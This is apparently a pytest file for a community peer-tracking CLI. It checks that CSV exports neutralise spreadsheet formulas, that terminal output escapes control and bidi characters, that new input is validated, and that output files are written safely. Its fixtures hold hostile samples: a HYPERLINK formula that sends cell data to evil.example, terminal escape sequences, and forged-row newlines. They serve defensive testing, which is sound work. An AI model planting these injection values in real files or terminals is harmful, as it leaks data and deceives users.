"""What peerpath writes for people and programs to read (core/safe_output.py, issue 13): output
files, CSV cells that could run as formulas, text that could drive a terminal, and the
validation that keeps such text out of new data."""

import csv
import io
import json
import os
import shutil
import stat

import attrs
import pytest
from click.testing import CliRunner

from conftest import DEMO_TODAY, assert_refused, demo_env, ok
import peerpath.cli
from peerpath.cli import cli
from peerpath.core import Tracker
from peerpath.core.safe_output import csv_cell, csv_cell_read, terminal_text
from test_cli_help import COMMANDS, IDS, examples, examples_folder, run_example
from test_cli_output import LISTINGS

# Text an attacker (or a careless paste) could put in a name, a place, notes or --as.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ESCAPES = "\x1b]0;owned\x07\x1b[31m\x08\x08\r\u202eevil"
RAW = ("\x1b", "\x07", "\x08", "\r", "\u202e", "\x9b")
FORGED = "P9999  forged row"


def hostile(tracker: Tracker) -> None:
    """Give every peer, an offering, an outreach event and the actor of the edits text that is
    a formula and carries terminal escapes, as older data (stored before validation) may."""
    with attrs.validators.disabled(), tracker.changing():
        for peer in tracker.peers():
            tracker.edit_peer(peer.id, name=f"{FORMULA}{ESCAPES} {peer.id}", community=f"+Cicero\n{FORGED}",
                              phone="-2+3", notes=f"@SUM(1){ESCAPES}\n{FORGED}", source_detail="\tTab")
        leaders = ["P0023"]  # a connection facilitator of the demo
        tracker.add_offering("connection", f"={ESCAPES}", leaders=leaders, location=f"@{ESCAPES}")
        tracker.add_outreach(f"=1+1{ESCAPES}", partner=f"-{ESCAPES}", community=f"+{ESCAPES}", sector="health")


@pytest.fixture(scope="module")
def hostile_folder(demo_folder, tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copytree(demo_folder, folder, dirs_exist_ok=True)
    tracker = Tracker(db=folder / "affiliate.json", today=DEMO_TODAY)
    tracker.actor = f"={ESCAPES}"  # as an actor recorded before --as was checked
    hostile(tracker)
    return folder


def on(folder, *args):
    """Run on `folder`'s database, in tables wide enough to show every cell whole."""
    env = {**demo_env(folder / "affiliate.json"), "COLUMNS": "2000"}
    return CliRunner().invoke(cli, [str(arg) for arg in args], env=env)


# --- CSV formula injection ----------------------------------------------------------------------

# Listings whose rows carry text a person typed (the others list programs, plugins, settings).
WITH_USER_TEXT = {("peer", "list"), ("audit",), ("leaders",), ("offering", "list"), ("outreach", "list"),
                  ("communities", "list"), ("followups",), ("report", "reach")}


def assert_no_live_formula(text: str) -> list:
    """Every cell of the CSV `text` is safe in a spreadsheet; the cells, for more checks."""
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]
    for cell in cells:
        if cell.startswith("-"):
            float(cell)  # only a number may begin with a minus sign
        else:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    return cells


@pytest.mark.parametrize("args", LISTINGS, ids=" ".join)
def test_every_listing_csv_neutralises_formulas(hostile_folder, args):
    cells = assert_no_live_formula(ok(on(hostile_folder, *args, "--csv")))
    if args in WITH_USER_TEXT:
        assert any(cell.startswith(("'=", "'+", "'@", "'-")) for cell in cells), "no user text was listed"


@pytest.mark.parametrize("include", [(), ("--include-contact",)], ids=["export", "export with contact"])
def test_peer_export_csv_neutralises_formulas(hostile_folder, include):
    cells = assert_no_live_formula(ok(on(hostile_folder, "peer", "export", "--format", "csv", *include)))
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    if include:
        assert "'-2+3" in cells and any(cell.startswith("'@SUM(1)") for cell in cells)


def test_the_value_map_file_neutralises_formulas(initialised, run, tmp_path):
    sheet = tmp_path / "sheet.csv"
    sheet.write_text('name,sector\nAna,"=HYPERLINK(""http://evil"")"\nBo,@SUM(A1)\n')
    ok(run("peer", "import", sheet, "--dry-run", "--write-value-map", tmp_path / "values.csv"))
    text = (tmp_path / "values.csv").read_text(encoding="utf-8-sig")
    cells = assert_no_live_formula(text)
    assert {"'=HYPERLINK(\"http://evil\")", "'@SUM(A1)"} <= set(cells)
    (tmp_path / "values.csv").write_text(text.replace(",,", ",faith,"))  # fill in the values
    ok(run("peer", "import", sheet, "--value-map", tmp_path / "values.csv"))
    assert {p["sector"] for p in json.loads(ok(run("peer", "list", "--json")))} == {"faith"}


def test_an_export_with_formulas_and_apostrophes_imports_back_unchanged(initialised, run, tmp_path):
    ok(run("peer", "add", "=1+1 Ana", "--phone", "+1 708 555 0100", "--notes", "'quoted' and -minus"))
    ok(run("peer", "add", "'Apostrophe Bo", "--source-detail", "@home", "--pronouns", "''"))
    ok(run("peer", "add", "--community", "'=Cicero", "--", "-Dash Cy"))
    before = json.loads(ok(run("peer", "list", "--json", "--contact")))
    path = tmp_path / "peers.csv"
    ok(run("peer", "export", "--include-contact", "--output", path))
    assert "'=1+1 Ana" in path.read_text(encoding="utf-8-sig")
    assert "0 changed" in ok(run("peer", "import", path))
    assert json.loads(ok(run("peer", "list", "--json", "--contact"))) == before


@pytest.mark.parametrize("text", ["=1+1", "+1", "-5", "@x", "\tx", "\rx", "'", "'=1", "''", "'a", "a'", "", "plain"])
def test_csv_cells_read_back_to_exactly_what_was_written(text):
    assert csv_cell_read(csv_cell(text)) == text
    assert not csv_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_are_written_as_numbers_and_text_that_looks_like_one_is_neutralised():
    assert (csv_cell(-5), csv_cell(-2.5), csv_cell("-5"), csv_cell(None)) == ("-5", "-2.5", "'-5", "")


# --- terminal escapes ---------------------------------------------------------------------------


def assert_safe_for_a_terminal(text: str, where) -> None:
    for char in RAW:
        assert char not in text, (where, char, text[:2000])


def machine_output(line: str) -> bool:
    """CSV for a file or a pipe is data, written as it is (a terminal gets it escaped)."""
    return "--csv" in line or (" export" in line and "--output" not in line)


@pytest.mark.parametrize("path, command", COMMANDS, ids=IDS)
def test_no_command_sends_control_characters_to_the_terminal(path, command, hostile_folder, tmp_path, monkeypatch):
    env = {**examples_folder(hostile_folder, tmp_path, monkeypatch), "COLUMNS": "2000"}  # every cell whole
    for line in examples(command):
        result = run_example(line, env)
        assert_safe_for_a_terminal(result.stderr, line)
        if not machine_output(line):
            assert_safe_for_a_terminal(result.stdout, line)
            assert not any(row.startswith("P9999") for row in result.stdout.splitlines()), line


@pytest.mark.parametrize("args", [("peer", "list", "--csv"), ("audit", "--csv"), ("peer", "export")], ids=" ".join)
def test_csv_on_a_terminal_shows_control_characters_as_escapes(hostile_folder, args, monkeypatch):
    monkeypatch.setattr(peerpath.cli, "stdout_is_terminal", lambda: True)
    shown = ok(on(hostile_folder, *args))
    assert_safe_for_a_terminal(shown, args)
    assert "\\x07" in shown


# The text outputs that show names, places, notes or the actor: each shows the escapes visibly.
SHOWING_USER_TEXT = [("peer", "list"), ("peer", "show", "P0023"), ("progress", "P0023"), ("leaders",),
                     ("audit",), ("offering", "list"), ("outreach", "list"), ("communities", "list"),
                     ("followups",), ("report", "reach"), ("peer", "list", "--json"),
                     ("peer", "show", f"P0023{ESCAPES}")]


@pytest.mark.parametrize("args", SHOWING_USER_TEXT, ids=" ".join)
def test_user_text_is_shown_with_its_control_characters_visible(hostile_folder, args):
    result = on(hostile_folder, *args)
    shown = result.stdout + result.stderr
    assert_safe_for_a_terminal(shown, args)
    assert "\\x1b" in shown or "\\u001b" in shown, shown[:2000]
    assert not any(row.startswith("P9999") for row in result.stdout.splitlines())


def test_a_newline_in_a_table_cell_cannot_forge_a_row(hostile_folder):
    rows = ok(on(hostile_folder, "peer", "list", "--stage", "accepted")).splitlines()
    accepted = [p for p in json.loads(ok(on(hostile_folder, "peer", "list", "--json"))) if p["stage"] == "accepted"]
    assert len(rows) >= len(accepted) + 1  # long cells may wrap, but
    assert [row.split()[0] for row in rows[1:] if row[:1] == "P"] == [p["id"] for p in accepted]


def test_peer_show_indents_each_line_of_the_notes():
    assert terminal_text("a\nb") == "a\nb"
    assert terminal_text("a\nb\x1b", keep_newlines=False) == "a\\x0ab\\x1b"


def test_peer_show_notes_cannot_pose_as_a_field(initialised, run):
    ok(run("peer", "add", "Ana", "--notes", "prefers evenings\nemail: forged@example.org"))
    lines = ok(run("peer", "show", "P0001")).splitlines()
    assert not any(line.startswith("email:") for line in lines)
    assert "                  email: forged@example.org" in lines


def test_json_output_escapes_bidi_and_c1_characters_and_stays_the_same_json(hostile_folder):
    text = ok(on(hostile_folder, "peer", "show", "P0023", "--json"))
    assert_safe_for_a_terminal(text, "peer show --json")
    assert json.loads(text)["name"] == f"{FORMULA}{ESCAPES} P0023"


# --- validation of new text ---------------------------------------------------------------------

BAD_CHARACTERS = ["\x1b", "\x07", "\r", "\x08", "\n", "\t", "\x00", "\x9b", "\u202e", "\u2066", "\u200b",
                  "\u200d", "\ufeff", "\u2028"]


@pytest.mark.parametrize("char", BAD_CHARACTERS, ids=ascii)
def test_a_name_with_a_control_zero_width_or_bidi_character_is_refused(initialised, run, char):
    assert_refused(run("peer", "add", f"Ana{char}Ruiz"), "name must not hold control, zero-width or bidi")
    assert json.loads(ok(run("peer", "list", "--json"))) == []


@pytest.mark.parametrize("args", [
    ("peer", "add", "Ana", "--community", "Cic\x1bero"), ("peer", "add", "Ana", "--email", "a\u200b@x.org"),
    ("peer", "add", "Ana", "--notes", "ok\x1b[2J"), ("peer", "add", "Ana", "--language", "Spa\u202enish"),
    ("peer", "add", "Ana", "--consent", "con\x07tact=yes"),
    ("outreach", "add", "talk\x1b"), ("offering", "add", "connection", "Gr\roup"),
], ids=lambda args: ascii(args[-1]))
def test_other_text_fields_refuse_control_characters(initialised, run, args):
    assert_refused(run(*args), "must not hold control, zero-width or bidi")
    assert json.loads(ok(run("peer", "list", "--json"))) == []


def test_notes_may_hold_lines_and_tabs(initialised, run):
    ok(run("peer", "add", "Ana", "--notes", "line one\n\tline two"))
    assert json.loads(ok(run("peer", "show", "P0001", "--json")))["notes"] == "line one\n\tline two"


@pytest.mark.parametrize("field, limit", [("name", 200), ("--community", 200), ("--notes", 10_000)])
def test_text_fields_have_length_limits(initialised, run, field, limit):
    args = ["peer", "add"] + (["x" * (limit + 1)] if field == "name" else ["Ana", field, "x" * (limit + 1)])
    assert_refused(run(*args), f"{limit + 1:,} characters long: at most {limit:,}")
    args = ["peer", "add"] + (["x" * limit] if field == "name" else ["Ana", field, "x" * limit])
    ok(run(*args))


@pytest.mark.parametrize("how", ["--as", "PEERPATH_USER"])
def test_an_actor_with_control_characters_is_refused(initialised, run, monkeypatch, how):
    if how == "--as":
        result = run("--as", "bob\x1b[31m", "peer", "add", "Ana")
    else:
        monkeypatch.setenv("PEERPATH_USER", "bob\x07")
        result = run("peer", "add", "Ana")
    assert_refused(result, how, "must not hold control")
    monkeypatch.setenv("PEERPATH_USER", "tester")
    assert json.loads(ok(run("peer", "list", "--json"))) == []


def test_an_import_row_with_a_control_character_blocks_the_import(initialised, run, tmp_path):
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("name,community\nAna,Cicero\nBo\x1b[31m,Berwyn\n")
    result = run("peer", "import", sheet)
    assert result.exit_code == 1
    assert "line 3: name must not hold control" in result.stderr and "\x1b" not in result.stderr
    assert json.loads(ok(run("peer", "list", "--json"))) == []


def test_stored_text_with_control_characters_still_loads(hostile_folder):
    peers = json.loads(ok(on(hostile_folder, "peer", "list", "--json")))
    assert peers[0]["name"] == f"{FORMULA}{ESCAPES} P0001"


# --- output files -------------------------------------------------------------------------------


@pytest.fixture
def with_peer(initialised, run):
    ok(run("peer", "add", "Ana", "--email", "ana@example.org"))
    return initialised


def test_an_output_file_is_new_private_and_whole(with_peer, run, tmp_path):
    old = os.umask(0)
    try:
        ok(run("peer", "export", "--include-contact", "--output", tmp_path / "out.csv"))
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "out.csv").stat().st_mode) == 0o600
    assert "ana@example.org" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary left


@pytest.mark.parametrize("writer", ["export", "value map"])
def test_an_existing_file_is_replaced_only_with_force(with_peer, run, tmp_path, writer):
    target = tmp_path / "out.csv"
    target.write_text("keep me")
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("name,sector\nBo,church picnic\n")
    args = (["peer", "export", "--output", target] if writer == "export"
            else ["peer", "import", sheet, "--dry-run", "--write-value-map", target])
    assert_refused(run(*args), f"{target} already exists: give --force")
    assert target.read_text() == "keep me"
    ok(run(*args, "--force"))
    assert target.read_text(encoding="utf-8-sig").startswith(("id,", "field,"))
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


@pytest.mark.parametrize("force", [(), ("--force",)], ids=["", "force"])
def test_a_symbolic_link_is_never_followed(with_peer, run, tmp_path, force):
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep me")
    (tmp_path / "link.csv").symlink_to(target)
    assert_refused(run("peer", "export", "--output", tmp_path / "link.csv", *force), "symbolic link")
    assert target.read_text() == "keep me" and (tmp_path / "link.csv").is_symlink()
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "missing.csv")
    assert_refused(run("peer", "export", "--output", dangling, *force), "symbolic link")
    assert not (tmp_path / "missing.csv").exists()


@pytest.mark.files_only("a file database's own files; a PostgreSQL database has none of ours")
@pytest.mark.parametrize("name", ["affiliate.json", "affiliate.json.lock", "affiliate.json.d/events.jsonl",
                                  "affiliate.json.d/new.csv", "affiliate.json.d"])
def test_the_database_own_files_are_never_written(with_peer, run, name):
    folder = with_peer.parent
    before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    assert_refused(run("peer", "export", "--output", folder / name, "--force"), "database")
    assert {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()} == before
    assert len(json.loads(ok(run("peer", "list", "--json")))) == 1


@pytest.mark.files_only("a file database's own files; a PostgreSQL database has none of ours")
def test_the_database_files_are_recognised_through_a_relative_path(with_peer, run, monkeypatch):
    monkeypatch.chdir(with_peer.parent)
    assert_refused(run("peer", "export", "--output", "./affiliate.json.d/../affiliate.json", "--force"), "database")


def test_a_failed_write_leaves_the_old_file_and_no_temporary(with_peer, run, tmp_path, monkeypatch):
    target = tmp_path / "out.csv"
    target.write_text("keep me")
    real_write = os.write

    def half_then_full_disk(fd, data):
        if len(data) > 4:
            return real_write(fd, bytes(data[:4]))
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "write", half_then_full_disk)
    assert_refused(run("peer", "export", "--output", target, "--force"), "No space left on device")
    monkeypatch.undo()
    assert target.read_text() == "keep me"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".out")) == []


# --- contact details ----------------------------------------------------------------------------


@pytest.fixture
def contact_peer(initialised, run):
    ok(run("peer", "add", "Ana", "--email", "ana@example.org", "--phone", "708-555-0100", "--notes", "evenings"))
    ok(run("peer", "edit", "P0001", "--email", "ana@new.example.org", "--phone", "708-555-0199"))
    return "P0001"


CONTACT = ("ana@example.org", "ana@new.example.org", "708-555-0100", "708-555-0199", "evenings")


@pytest.mark.parametrize("args", [("peer", "list"), ("peer", "list", "--json"), ("peer", "list", "--csv"),
                                  ("audit",), ("audit", "--json"), ("audit", "--csv"),
                                  ("audit", "--peer", "P0001", "--json")], ids=" ".join)
def test_listings_leave_out_contact_details_unless_asked(contact_peer, run, args, monkeypatch):
    monkeypatch.setenv("COLUMNS", "200")
    hidden = ok(run(*args))
    assert not any(value in hidden for value in CONTACT), hidden
    shown = ok(run(*args, "--contact"))
    assert "ana@new.example.org" in shown and "708-555-0199" in shown


def test_audit_still_says_which_contact_fields_changed(contact_peer, run):
    [edit] = [e for e in json.loads(ok(run("audit", "--json"))) if e["action"] == "edit"]
    assert edit["details"] == {"fields": ["email", "phone"], "changes": {"email": "(hidden)", "phone": "(hidden)"}}
    [edit] = [e for e in json.loads(ok(run("audit", "--json", "--contact"))) if e["action"] == "edit"]
    assert edit["details"]["changes"]["phone"] == {"old": "708-555-0100", "new": "708-555-0199"}


def test_peer_list_json_keeps_every_other_field(contact_peer, run):
    [peer] = json.loads(ok(run("peer", "list", "--json")))
    [full] = json.loads(ok(run("peer", "list", "--json", "--contact")))
    assert {key: value for key, value in full.items() if key not in ("email", "phone", "notes")} == peer


def test_a_file_system_without_hard_links_still_gets_a_new_file(with_peer, run, tmp_path, monkeypatch):
    def no_hard_links(source, target):
        raise PermissionError(1, "Operation not permitted")

    monkeypatch.setattr(os, "link", no_hard_links)
    ok(run("peer", "export", "--output", tmp_path / "out.csv"))
    assert (tmp_path / "out.csv").read_text(encoding="utf-8-sig").startswith("id,")
    assert_refused(run("peer", "export", "--output", tmp_path / "out.csv"), "already exists")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
